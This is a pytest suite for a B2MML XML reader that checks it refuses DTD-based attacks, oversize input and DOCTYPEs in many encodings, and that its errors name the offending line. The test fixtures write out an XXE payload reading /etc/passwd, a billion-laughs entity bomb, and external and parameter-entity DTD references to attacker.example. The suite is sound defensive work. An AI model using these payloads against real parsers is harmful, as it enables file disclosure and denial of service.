"""The reader is safe: no DTDs, no entity expansion, no network, bounded size; errors name lines."""

from __future__ import annotations

import threading
from collections.abc import Callable

import pytest

from isa95.b2mml import safexml
from isa95.b2mml.documents import B2MML
from isa95.b2mml.safexml import MAX_PROLOG_BYTES, check_prolog
from isa95.b2mml.schemas import parse_xml
from isa95.errors import DocumentInvalid, SchemaError, UnsafeXMLError, UnsupportedDocumentError

NS = "http://www.mesa.org/xml/B2MML"

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE MaterialInformation [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<MaterialInformation xmlns="{NS}"><ID>&xxe;</ID></MaterialInformation>""".encode()

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + f']>\n<MaterialInformation xmlns="{NS}"><ID>&lol9;</ID></MaterialInformation>'.encode()
)

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE MaterialInformation SYSTEM "http://attacker.example/evil.dtd">
<MaterialInformation xmlns="{NS}"><ID>x</ID></MaterialInformation>""".encode()

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<r/>"""


@pytest.mark.parametrize("payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtd_based_attacks_are_refused(b2mml: B2MML, payload: bytes) -> None:
    with pytest.raises((UnsafeXMLError, DocumentInvalid)) as info:
        b2mml.read(payload)
    assert "root:x:0" not in str(info.value)  # nothing from /etc/passwd leaked
    with pytest.raises((UnsafeXMLError, DocumentInvalid)):
        b2mml.validate(payload)


def test_billion_laughs_is_refused_quickly() -> None:
    with pytest.raises(UnsafeXMLError, match="DOCTYPE"):
        parse_xml(BILLION_LAUGHS)


def test_oversize_documents_are_refused() -> None:
    big = b"<a>" + b"x" * 2000 + b"</a>"
    with pytest.raises(UnsafeXMLError, match="exceeds"):
        parse_xml(big, max_bytes=1000)


def test_huge_but_allowed_document_parses(b2mml: B2MML) -> None:
    lots = "".join(f"<MaterialLot><ID>L{i}</ID></MaterialLot>" for i in range(50_000))
    data = f'<MaterialInformation xmlns="{NS}">{lots}</MaterialInformation>'.encode()
    document = b2mml.read(data)
    assert len(document.model.lots) == 50_000


def test_not_well_formed_names_the_line(b2mml: B2MML) -> None:
    data = (
        f'<MaterialInformation xmlns="{NS}">\n<ID>x</ID>\n<Description>\n</MaterialInformation>'
    ).encode()
    with pytest.raises(DocumentInvalid) as info:
        b2mml.read(data)
    assert info.value.issues[0].line == 4
    assert "not well-formed" in str(info.value)


def test_schema_errors_name_element_and_line(b2mml: B2MML) -> None:
    data = (
        f'<MaterialInformation xmlns="{NS}">\n  <MaterialLot>\n    <Bogus>1</Bogus>\n'
        "  </MaterialLot>\n</MaterialInformation>"
    ).encode()
    with pytest.raises(DocumentInvalid) as info:
        b2mml.read(data)
    issue = info.value.issues[0]
    assert (issue.line, issue.element) == (3, "Bogus")
    assert "line 3: <Bogus>" in str(info.value)


def test_foreign_and_legacy_namespaces_are_refused_clearly(b2mml: B2MML) -> None:
    with pytest.raises(UnsupportedDocumentError, match="not B2MML V0701 or V0600"):
        b2mml.read(b'<html xmlns="http://www.w3.org/1999/xhtml"/>')
    with pytest.raises(UnsupportedDocumentError, match="V0401 documents are not supported"):
        b2mml.read(b'<SyncMaterialInformation xmlns="http://www.wbf.org/xml/B2MML-V0401"/>')
    with pytest.raises(UnsupportedDocumentError, match="not a supported document"):
        b2mml.read(f'<WorkSchedule xmlns="{NS}"/>'.encode())


def test_schema_directory_is_required(monkeypatch: pytest.MonkeyPatch, tmp_path) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.delenv("GXPMES_B2MML_SCHEMAS", raising=False)
    monkeypatch.setenv("GXPMES_DATA_DIR", str(tmp_path / "no-user-install"))
    with pytest.raises(SchemaError, match="GXPMES_B2MML_SCHEMAS"):
        B2MML()
    with pytest.raises(SchemaError, match="neither V0701"):
        B2MML(tmp_path)


def test_extension_content_is_kept_and_reported(b2mml: B2MML) -> None:
    # UserArea is B2MML's xsd:any extension point (processContents=strict, so
    # the extension must be a declared element). The reader keeps it verbatim
    # in the tree and lists it as content the models do not carry.
    data = f"""<?xml version="1.0"?>
<SyncMaterialInformation xmlns="{NS}" releaseID="1.0">
  <ApplicationArea>
    <CreationDateTime>2026-01-01T00:00:00Z</CreationDateTime>
    <UserArea><MaterialLot><ID>EXT-1</ID></MaterialLot></UserArea>
  </ApplicationArea>
  <DataArea><Sync/><MaterialInformation><MaterialLot><ID>L-1</ID></MaterialLot></MaterialInformation></DataArea>
</SyncMaterialInformation>""".encode()
    document = b2mml.read(data)
    assert document.model.lots[0].id == "L-1"
    extension = document.tree["ApplicationArea"]["UserArea"]["##any"][0]
    assert "EXT-1" in extension and extension.lstrip().startswith("<MaterialLot")
    assert document.unmapped == ["SyncMaterialInformation/ApplicationArea/UserArea"]


# ------------------------------------------------------------ the prolog scan


def _within(seconds: float, action: Callable[[], object]) -> BaseException | None:
    """Run ``action`` in a daemon thread; fail if it has not ended after ``seconds``.

    Returns what it raised (None if nothing), so a loop that never ends fails
    the test instead of hanging the run.
    """
    outcome: list[BaseException | None] = []

    def run() -> None:
        try:
            action()
            outcome.append(None)
        except BaseException as exc:
            outcome.append(exc)

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(seconds)
    assert outcome, f"did not finish within {seconds} s"
    return outcome[0]


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?>\n<!-- unterminated',  # the 39-byte input that used to hang
        b"<!--",
        b"<!-->",
        b"<!--->",
        b'<?xml version="1.0"',
        b"<?",
        b"<![CDATA[x",
        b"<!DOC",
        b"<!",
        b"DOCTYPE <",
        b"\xef\xbb\xbf<!-- x",
        "<!-- x".encode("utf-16"),
        "<?xml".encode("utf-16-be"),
        "<!-- x".encode("utf-32"),
        b"",
    ],
)
def test_unterminated_prologs_end_as_not_well_formed(data: bytes) -> None:
    error = _within(2, lambda: parse_xml(data))
    assert isinstance(error, DocumentInvalid), repr(error)


DOCTYPE_DOC = (
    '<?xml version="1.0" encoding="{}"?><!-- c --><?pi x?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
)


@pytest.mark.parametrize(
    ("codec", "declared", "bom"),
    [
        ("utf-8", "UTF-8", b""),
        ("utf-8", "UTF-8", b"\xef\xbb\xbf"),
        ("utf-16-le", "UTF-16", b"\xff\xfe"),
        ("utf-16-be", "UTF-16", b"\xfe\xff"),
        ("utf-16-le", "UTF-16", b""),  # no BOM: libxml2 still detects it from "<?"
        ("utf-16-be", "UTF-16", b""),
        ("utf-32-le", "UTF-32", b"\xff\xfe\x00\x00"),
        ("utf-32-le", "UTF-32", b""),
        ("utf-7", "UTF-7", b""),  # '<' is "+ADw-": invisible to a byte scan
        ("iso-8859-1", "ISO-8859-1", b""),
        ("cp1252", "windows-1252", b""),
    ],
)
def test_doctype_is_refused_before_parsing_in_every_encoding(
    codec: str, declared: str, bom: bytes
) -> None:
    data = bom + DOCTYPE_DOC.format(declared).encode(codec)
    error = _within(2, lambda: check_prolog(data))
    assert isinstance(error, UnsafeXMLError) and "DOCTYPE" in str(error), repr(error)


@pytest.mark.parametrize(
    ("codec", "bom"),
    [("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")],
)
def test_documents_without_doctype_parse_in_those_encodings(codec: str, bom: bytes) -> None:
    declared = "UTF-8" if codec == "utf-8" else "UTF-16"
    text = f'<?xml version="1.0" encoding="{declared}"?>\n<!-- <!DOCTYPE in a comment -->\n<a>é</a>'
    tree = parse_xml(bom + text.encode(codec))
    assert tree.getroot().text == "é"


def test_an_encoding_that_cannot_be_checked_is_refused() -> None:
    with pytest.raises(UnsafeXMLError, match="x-no-such-encoding"):
        parse_xml(b'<?xml version="1.0" encoding="x-no-such-encoding"?><a/>')


def test_a_prolog_longer_than_the_scan_is_refused() -> None:
    padding = b"<!--" + b"x" * MAX_PROLOG_BYTES + b"-->"
    with pytest.raises(UnsafeXMLError, match="prolog"):
        parse_xml(padding + b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>')


def test_the_parsed_tree_check_stands_behind_the_scan(monkeypatch: pytest.MonkeyPatch) -> None:
    # With the scan removed, a DOCTYPE still never leads to a document.
    monkeypatch.setattr(safexml, "check_prolog", lambda data: None)
    with pytest.raises((UnsafeXMLError, DocumentInvalid)):
        parse_xml(DOCTYPE_DOC.format("UTF-8").encode())
    with pytest.raises((UnsafeXMLError, DocumentInvalid)):
        parse_xml(BILLION_LAUGHS)
